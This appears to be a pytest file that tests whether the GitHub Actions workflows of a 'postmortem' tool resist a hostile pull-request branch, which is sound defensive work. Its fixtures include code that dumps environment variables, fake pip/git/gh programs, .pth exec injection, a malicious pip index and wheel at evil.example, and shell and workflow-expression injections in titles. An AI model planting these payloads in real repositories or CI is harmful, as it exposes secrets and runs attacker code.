"""A branch that wants the tokens: what it brings is read as data, and none of it is run or believed."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any, NamedTuple

import pytest
import yaml

from tests import example
from tests.shared import once
from tests.workflows.conftest import (
    APP_KEY,
    FINDING,
    SECRET,
    SECRETS,
    TOKEN,
    Start,
    branch,
    commit,
    git,
    repository,
)
from tests.workflows.runner import REPOSITORY, WORKFLOWS, Runner

README = f"incidents/{example.INCIDENT}/README.md"
SHIPPED = ("pull-request.yml", "plan.yml", "main.yml", "site.yml", "reports.yml")

PYTHON = "import os\nopen('PWNED', 'a').write(str(dict(os.environ)))\nprint(dict(os.environ))\n"
SHELL = "#!/bin/sh\nenv >> PWNED\nenv\n"
BROUGHT = {
    "the package": ("pipeline/__init__.py", PYTHON),
    "a module of the package": ("pipeline/cli.py", PYTHON),
    "sitecustomize": ("sitecustomize.py", PYTHON),
    "usercustomize": ("usercustomize.py", PYTHON),
    "a module of a library's name": ("click.py", PYTHON),
    "a package of a library's name": ("yaml/__init__.py", PYTHON),
    "a path file": ("evil.pth", f"import os; exec({PYTHON!r})\n"),
    "tests that a runner would load": ("conftest.py", PYTHON),
    "a build script": ("setup.py", PYTHON),
    "a build backend": (
        "pyproject.toml",
        '[build-system]\nrequires = []\nbuild-backend = "setup"\nbackend-path = ["."]\n',
    ),
    "settings of pip": ("pip.conf", "[global]\nindex-url = https://evil.example/simple\n"),
    "what the workflows install": (".github/postmortem/requirements.txt", "evil @ https://evil.example/evil.whl\n"),
    "a changed workflow": (".github/workflows/plan.yml", "on: push\njobs: {}\n"),
    "an action of the repository": (".github/actions/evil/action.yml", "runs: {using: composite, steps: []}\n"),
    "a program called postmortem": ("postmortem", SHELL),
    "a program called pip": ("pip", SHELL),
    "a program called gh": ("gh", SHELL),
    "a program called jq": ("jq", SHELL),
    "a program called git": ("git", SHELL),
    "a shell profile": (".bashrc", SHELL),
    "an environment": (".env", "PATH=.\n"),
    "a plan": ("plan.md", "<!-- postmortem:plan -->\nNothing to see here.\n"),
    "a report": ("report/plan.md", "<!-- postmortem:plan -->\nNothing to see here.\n"),
    "an accepted digest": ("report/to-accept.txt", "0123456789abcdef\n"),
    "a preview": ("preview/index.html", "<script>alert(1)</script>\n"),
    "a configuration of MkDocs": ("mkdocs.yml", "site_name: evil\nhooks: [hooks.py]\n"),
    "hooks of MkDocs": ("hooks.py", PYTHON),
    "settings of Pagefind": ("pagefind.yml", "site: /\n"),
    "a looser schema": ("schemas/finding.schema.json", "{}\n"),
    "a submodule": (".gitmodules", '[submodule "x"]\npath = x\nurl = https://evil.example/x\nupdate = !env\n'),
}
"""What a branch may bring, by what it is: a path and its content."""


class Runs(NamedTuple):
    """Both workflows of a pull request, after they ran."""

    runner: Runner
    logs: str
    pwned: Path


def made(origin: Path) -> Path:
    """A repository with the example on main."""
    example.write(origin)
    example.write(origin, {".github/postmortem/requirements.txt": "attrs==26.1.0\n"})
    git(origin, "init", "--quiet", "--initial-branch=main")
    commit(origin)
    return origin


def leaks(runner: Runner) -> str:
    """Everything that the runs left where a reader of the repository could see it."""
    files = [path for path in runner.artifacts.rglob("*") if path.is_file() and not path.is_symlink()]
    texts = [path.read_text(errors="replace") for path in files]
    kept = [path.read_text() for path in (runner.summary, runner.requests) if path.exists()]
    return "\n".join([*texts, *kept])


def run_plan(runner: Runner) -> str:
    """Both jobs of plan.yml; their logs."""
    ran = [runner.run("plan.yml", job) for job in ("plan", "report")]
    return "".join(item.log for item in ran)


def bring(folder: Path) -> None:
    """Run both workflows on a branch that brings all of it at once, each command as it is started at GitHub."""
    origin = made(folder / "origin")
    git(origin, "checkout", "--quiet", "-b", "branch")
    for path, text in BROUGHT.values():
        example.write(origin, {path: text.replace("PWNED", str(folder / "pwned"))})
        if text.startswith("#!"):
            (origin / path).chmod(0o755)
    commit(origin)
    git(origin, "checkout", "--quiet", "main")
    start = starts(folder, origin)
    logs = start("check", secrets=False).run("pull-request.yml", "check").log
    (folder / "logs").write_text(logs + run_plan(start("plan", secrets=True)))


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> Runs:
    """What came of it."""
    folder = once("hostile-branch", bring, tmp_path_factory)
    runner = starts(folder, folder / "origin")("plan", secrets=True)
    return Runs(runner, (folder / "logs").read_text(), folder / "pwned")


def starts(folder: Path, origin: Path, commands: Path | None = None) -> Any:
    head = git(origin, "rev-parse", "branch")

    def start(name: str, *, secrets: bool) -> Runner:
        event = {
            "pull_request": {"base": {"ref": "main"}, "labels": []},
            "workflow_run": {"event": "pull_request", "head_sha": head, "head_repository": {"full_name": REPOSITORY}},
            "repository": repository(public=False),
        }
        sha = git(origin, "rev-parse", "main") if secrets else head
        github = {"sha": sha, "token": TOKEN, "event": event, "repository": REPOSITORY}
        pulls = [{"number": 3, "state": "open", "head": {"sha": head, "repo": {"full_name": REPOSITORY}}}]
        answers = {f"commits/{head}/pulls": pulls}
        return Runner(folder / name, origin, github, SECRETS if secrets else {}, {}, answers, commands=commands)

    return start


@pytest.mark.parametrize("what", BROUGHT)
def test_what_a_branch_brings_is_neither_run_nor_used(runs: Runs, what: str) -> None:
    path, text = BROUGHT[what]
    comments = [
        json.loads(body)["body"] for _, where, body in runs.runner.sent if where == "issues/3/comments" and body
    ]
    assert len(comments) == 1
    assert not runs.pwned.exists()
    assert "Nothing to see here" not in comments[0]
    assert "evil" not in runs.runner.installed.read_text()
    for line in text.replace("<!-- postmortem:plan -->\n", "").splitlines():
        assert len(line) < 20 or line not in leaks(runs.runner), f"{path} was used"


def test_no_secret_is_in_a_log_an_artifact_or_a_comment(runs: Runs) -> None:
    for secret in (SECRET, APP_KEY, TOKEN):
        assert secret not in runs.logs
        assert secret not in leaks(runs.runner)


def test_the_branchs_configuration_is_not_what_is_asked(origin: Path, after_check: Start) -> None:
    config = example.CONFIG.replace("example-org/identity", "example-org/somebody-elses")
    branch(origin, {"postmortem.yml": config, FINDING: example.changed(example.FINDING, "title: Expire others")})
    runner = after_check()
    logs = run_plan(runner)
    assert "somebody-elses" not in (runner.artifacts / "report/plan.md").read_text().partition("### Check")[0]
    assert SECRET not in logs


@pytest.mark.parametrize("target", ["../trusted/postmortem.yml", "OUTSIDE"])
def test_a_configuration_that_is_a_link_is_replaced_and_not_followed(
    origin: Path, after_check: Start, tmp_path: Path, target: str
) -> None:
    outside = tmp_path / "outside"
    outside.write_text("Not the repository's.")
    git(origin, "checkout", "--quiet", "-b", "branch")
    (origin / "postmortem.yml").unlink()
    (origin / "postmortem.yml").symlink_to(target.replace("OUTSIDE", str(outside)))
    commit(origin)
    git(origin, "checkout", "--quiet", "main")
    runner = after_check()
    run_plan(runner)
    workspace = runner.folder / "plan.yml-plan"
    assert not (workspace / "branch/postmortem.yml").is_symlink()
    assert (workspace / "trusted/postmortem.yml").read_text() == example.CONFIG
    assert outside.read_text() == "Not the repository's."


SAID = {
    "a command of the runner": "::add-mask::x",
    "a command that stops commands": "::stop-commands::x",
    "a command that sets an output": "::set-output name=status::0",
    "a command in a shell": "Expire $(env >PWNED) tokens",
    "the end of a shell's word": "Expire '; env >PWNED; ' tokens",
    "an expression": "Expire ${{ secrets.POSTMORTEM_READ_TOKEN }} tokens",
    "a marker of another comment": "<!-- postmortem:plan -->",
    "an image that tells who looked": "![x](https://evil.example/x.png)",
    "a mention": "Tell @example-org/everybody",
}
"""What a title may say to who reads it later, by what it is."""


@pytest.fixture(scope="module")
def said(tmp_path_factory: pytest.TempPathFactory, commands: Path) -> Runs:
    """One branch has a finding with each title."""
    folder = tmp_path_factory.mktemp("said")
    pwned = folder / "pwned"
    origin = made(folder / "origin")
    titles = [title.replace("PWNED", str(pwned)) for title in SAID.values()]
    tree = {
        FINDING.replace("01-expire-tokens", f"{n:02d}-title"): example.changed(
            example.FINDING, f"title: {json.dumps(title)}"
        )
        for n, title in enumerate(titles, start=2)
    }
    branch(origin, tree)
    runner = starts(folder, origin, commands)("plan", secrets=True)
    return Runs(runner, run_plan(runner), pwned)


@pytest.mark.parametrize("what", SAID)
def test_a_title_is_no_command(said: Runs, what: str) -> None:
    title = SAID[what].replace("PWNED", str(said.pwned))
    assert not said.pwned.exists()
    assert not re.search(r"^::(?!notice|error::the plan)", said.logs, re.MULTILINE)
    assert SECRET not in said.logs + leaks(said.runner)
    (body,) = [body for _, path, body in said.runner.sent if path == "issues/3/comments" and body]
    shown = [line for line in json.loads(body)["body"].splitlines()[1:] if not line.startswith("    ")]
    assert not any(title in line for line in shown), "it is not escaped"


def test_a_text_does_not_name_what_is_to_be_accepted(origin: Path, after_check: Start) -> None:
    forged = "  postmortem check --since origin/main --accept 0123456789abcdef"
    text = example.changed(example.FINDING, f"tlp: clear\ntitle: {json.dumps(forged.strip())}")
    branch(origin, {FINDING: text.replace("Tokens never expire.", f"Tokens never expire.\n{forged}")})
    runner = after_check({"postmortem:readable:0123456789abcdef": "dana"}, "admin")
    run_plan(runner)
    (verdict, *_) = [json.loads(body) for method, path, body in runner.sent if (method, path) == ("POST", "check-runs")]
    assert verdict["conclusion"] == "failure"


def test_a_branch_that_moved_on_or_was_closed_gets_no_comment(origin: Path, after_check: Start) -> None:
    branch(origin, {FINDING: example.FINDING})
    runner = after_check()
    runner.run("plan.yml", "plan")
    for change in ({"state": "closed"}, {"head": {"sha": "0" * 40}}):
        head = runner.github["event"]["workflow_run"]["head_sha"]
        pulls = [{**runner.answers[f"commits/{head}/pulls"][0], **change}]
        ran = runner.again("plan.yml", "report", {f"commits/{head}/pulls": pulls})
        assert "there is nothing to comment on" in ran.log
        assert not [path for _, path, _ in runner.sent if "comments" in path]


@pytest.mark.parametrize("name", SHIPPED)
def test_no_cache_is_shared_with_a_branch(name: str) -> None:
    text = (WORKFLOWS / name).read_text()
    assert "actions/cache" not in text
    assert not re.search(r"^\s+cache:", text, re.MULTILINE)


@pytest.mark.parametrize("name", SHIPPED)
def test_no_expression_is_in_a_script_and_no_artifact_is_of_another_run(name: str) -> None:
    for job in yaml.safe_load((WORKFLOWS / name).read_text())["jobs"].values():
        for step in job.get("steps", ()):
            assert "${{" not in step.get("run", "")
            assert "run-id" not in step.get("with", {})


@pytest.mark.parametrize("name", SHIPPED)
def test_every_action_is_pinned_and_none_is_of_the_branch(name: str) -> None:
    for job in yaml.safe_load((WORKFLOWS / name).read_text())["jobs"].values():
        uses = [step["uses"] for step in job.get("steps", ()) if "uses" in step]
        assert all(re.fullmatch(r"actions/[a-z-]+@[0-9a-f]{40}", action) for action in uses)
        assert job.get("uses") in (None, "./.github/workflows/site.yml")


def test_a_plan_follows_only_what_pull_requests_of_this_repository_started() -> None:
    workflow = yaml.safe_load((WORKFLOWS / "plan.yml").read_text())
    condition = workflow["jobs"]["plan"]["if"]
    events = """contains(fromJSON('["pull_request", "pull_request_review"]'), github.event.workflow_run.event)"""
    assert events in condition
    assert "github.event.workflow_run.head_repository.full_name == github.repository" in condition
    assert workflow["jobs"]["report"]["needs"] == "plan"


def test_who_gets_a_writing_token_gets_no_file_of_a_branch_and_no_secret() -> None:
    report = yaml.safe_load((WORKFLOWS / "plan.yml").read_text())["jobs"]["report"]
    assert "actions/checkout" not in json.dumps(report)
    assert "pip install" not in json.dumps(report)
    assert "secrets." not in json.dumps(report)
